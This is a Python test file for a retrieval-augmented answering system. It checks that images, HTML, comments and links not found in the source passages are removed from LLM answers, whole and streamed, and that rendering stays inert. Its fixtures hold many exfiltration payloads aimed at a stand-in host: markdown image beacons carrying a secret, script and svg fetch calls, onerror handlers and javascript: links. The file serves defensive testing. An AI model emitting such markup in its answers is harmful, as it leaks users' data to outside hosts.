"""An LLM answer loses every image, HTML tag and link the passages do not name, whole or streamed (issue #33).

The pure logic of rag/answering/active_content.py and of the inert rendering (rag/core/html.py); the served test
(tests/test_security_exfiltration.py) shows it in a real browser.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from rag.answering.active_content import StreamVetter, safe_cut, vet
from rag.core.html import inert
from rag.core.types import Passage

EVIL = "http://evil.example/px?q=account%20number%20is%204417-SECRET"
KEPT_URL = "https://news.example/report(2024)"
PASSAGES = [
    Passage(
        chunk_id="c1",
        article_id="a1",
        title="Harbour budget",
        url="https://news.example/harbour",
        text=f"The harbour budget grows to 40 million euros. The report is at {KEPT_URL} and www.port.example.",
    )
]


def _vetted(text: str) -> tuple[str, tuple[str, ...]]:
    done = vet(text, PASSAGES)
    return done.text, done.removed


@pytest.mark.parametrize(
    ("answer", "removed"),
    [
        pytest.param(f"It grows [1]. ![x]({EVIL})", "an image (evil.example)", id="inline-image"),
        pytest.param(f'It grows [1]. ![x]({EVIL} "title")', "an image (evil.example)", id="image-with-title"),
        pytest.param(f"It grows [1]. ![x](<{EVIL}>)", "an image (evil.example)", id="image-in-angle-brackets"),
        pytest.param(f"It grows [1]. ![x][1]\n\n[1]: {EVIL}", "an image (by reference)", id="reference-image"),
        pytest.param(f"It grows [1]. ![x][]\n[x]: {EVIL}", "an image (by reference)", id="collapsed-reference"),
        pytest.param(f'It grows [1]. <img src="{EVIL}">', "HTML (<img>)", id="img-tag"),
        pytest.param(f"It grows [1]. <IMG SRC={EVIL} onerror=alert(1)>", "HTML (<img>)", id="img-tag-upper-case"),
        pytest.param(f'It grows [1]. <a href="{EVIL}">more</a>', "HTML (<a>)", id="a-tag"),
        pytest.param(f"It grows [1]. <svg onload=fetch('{EVIL}')>", "HTML (<svg>)", id="svg"),
        pytest.param(f"It grows [1]. <iframe src={EVIL}></iframe>", "HTML (<iframe>)", id="iframe"),
        pytest.param(f"It grows [1]. <script>fetch('{EVIL}')</script>", "HTML (<script>)", id="script"),
        pytest.param(f"It grows [1]. <!-- {EVIL} -->", "an HTML comment", id="comment"),
        pytest.param(f"It grows [1]. <{EVIL}>", "a link not in the articles (evil.example)", id="autolink"),
        pytest.param(f"It grows [1]. See {EVIL}.", "a link not in the articles (evil.example)", id="bare-url"),
        pytest.param(
            "It grows [1]. See www.evil.example/x?q=secret.", "a link not in the articles (evil.example)", id="bare-www"
        ),  # fmt: skip
        pytest.param(f"It grows [1]. [more]({EVIL})", "a link not in the articles (evil.example)", id="link"),
        pytest.param(
            "It grows [1]. [more](http://evil.example/a_(b)?q=secret)",
            "a link not in the articles (evil.example)",
            id="link-with-parentheses",
        ),  # fmt: skip
        pytest.param(
            "It grows [1]. [more](javascript:alert(1))", "a link not in the articles (no host)", id="javascript-link"
        ),  # fmt: skip
        pytest.param(
            f"It grows [1]. [more][r]\n\n[r]: {EVIL}", "a link not in the articles (evil.example)", id="reference-link"
        ),  # fmt: skip
        pytest.param(
            f"It grows [1]. [![x]({EVIL})]({KEPT_URL})", "an image (evil.example)", id="image-inside-a-kept-link"
        ),  # fmt: skip
        pytest.param(
            "It grows [1]. ![x](http://evil.example/%70%78?q=%34%34%31%37)",
            "an image (evil.example)",
            id="encoded-characters",
        ),  # fmt: skip
        pytest.param(f"It grows [1]. ![x]({KEPT_URL})", "an image (news.example)", id="image-of-a-passage-url"),
    ],
)
def test_active_content_is_removed_and_named(answer: str, removed: str) -> None:
    text, what = _vetted(answer)
    assert removed in what, what
    assert text.startswith("It grows [1].")
    for trace in ("evil.example", "4417", "<img", "<svg", "<script", "<iframe", "<a ", "![", "]: ", "javascript"):
        assert trace not in text.lower(), (trace, text)
    assert not re.search(r"\]\(", text.replace(f"]({KEPT_URL})", "")), text  # no link left but the kept one


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(f"It grows [1], see [the report]({KEPT_URL}).", id="link-to-a-url-in-the-passage"),
        pytest.param("It grows [1], see [the article](https://news.example/harbour/).", id="link-to-its-article"),
        pytest.param(f"It grows [1]: <{KEPT_URL}>", id="autolink-in-the-passage"),
        pytest.param(f"It grows [1]: {KEPT_URL}.", id="bare-url-in-the-passage"),
        pytest.param("It grows [1]: www.port.example.", id="bare-www-in-the-passage"),
        pytest.param("It grows [1] and 2 < 3 > 1, [1](see above), 5%![1]!", id="plain-text"),
    ],
)
def test_links_the_passages_name_and_plain_text_are_kept(answer: str) -> None:
    assert _vetted(answer) == (answer, ())


def test_a_link_to_a_url_the_passage_only_starts_with_is_not_kept() -> None:
    # The question appended to a passage's URL is not in the passage: that is the leak.
    text, removed = _vetted(f"It grows [1]: [report]({KEPT_URL}?q=4417-SECRET)")
    assert text == "It grows [1]: report" and removed == ("a link not in the articles (news.example)",)


def _streamed(answer: str, pieces: list[str]) -> tuple[list[str], StreamVetter]:
    vetter = StreamVetter(PASSAGES)
    shown = [vetter.feed(p) for p in pieces] + [vetter.flush()]
    assert "".join(pieces) == answer
    return shown, vetter


@pytest.mark.parametrize(
    "answer",
    [
        f"It grows [1]. ![x]({EVIL}) and more.",
        f'It grows [1]. <img src="{EVIL}"> and more.',
        f"It grows [1]. [click here]({EVIL}) and more.",
        f"It grows [1].\n![x][1]\n\n[1]: {EVIL}\n",
        f"It grows [1]. <{EVIL}> and {EVIL} and www.evil.example/x",
        f'It grows [1]! ![a b c]({EVIL} "t") [x](<{EVIL} y>)',
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_streamed_text_never_shows_active_content_before_it_is_vetted(answer: str, size: int) -> None:
    pieces = [answer[i : i + size] for i in range(0, len(answer), size)]
    shown, vetter = _streamed(answer, pieces)
    seen = ""
    for piece in shown:
        seen += piece  # what a client has rendered at each moment
        assert "evil.example" not in seen and "![" not in seen and "<img" not in seen, seen
    assert seen.strip() == vet(answer, PASSAGES).text.strip()
    assert vetter.removed


def test_streaming_keeps_text_flowing_and_holds_only_a_possible_construct() -> None:
    assert safe_cut("It grows to 40 million") == len("It grows to 40 ")  # the last word may be a URL's start
    assert safe_cut("It grows [1] fast ") == len("It grows [1] fast ")
    assert safe_cut("It grows [1] see [the rep") == len("It grows [1] see ")  # a link's text, still open
    assert safe_cut("See [a](http://x.example/a b ") == len("See ")  # its destination, still open
    assert safe_cut("x <img src=a ") == len("x ")
    shown, _ = _streamed(f"It grows [1], see [the report]({KEPT_URL}) now.", ["It grows [1], ", "see [the ", "report]",
                                                                           f"({KEPT_URL}) now."])  # fmt: skip
    assert shown == ["It grows [1], ", "see ", "", f"[the report]({KEPT_URL}) ", "now."]


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"[more]({EVIL})",
        f"<img src={EVIL}>",
        f"<{EVIL}>",
        EVIL,
        "www.evil.example/x",
        "mail me@evil.example",
        f"[1]: {EVIL}\n[a][1]",
        f"\\![x]({EVIL})",
        f"`![x]({EVIL})`",
        "$\\href{http://evil.example}{x}$",
    ],
)
def test_inert_text_has_no_markdown_or_html_that_acts(text: str) -> None:
    shown = inert(text)
    for active in ("](", "][", "]:", "![", "<", "://", "www.", "@", "\\", "`", "$"):
        assert active not in shown, (active, shown)
    assert "&#93;" in shown or "&lt;" in shown or "&#58;" in shown or "&#46;" in shown or "&#64;" in shown
    rendered = MarkdownIt("commonmark").render(shown)  # a real renderer finds no link or image in it either
    assert "<a " not in rendered and "<img" not in rendered, rendered


def test_inert_text_keeps_citation_markers_as_typed() -> None:
    assert inert("Talks lasted three hours [1] and ended [2].") == "Talks lasted three hours [1] and ended [2]."
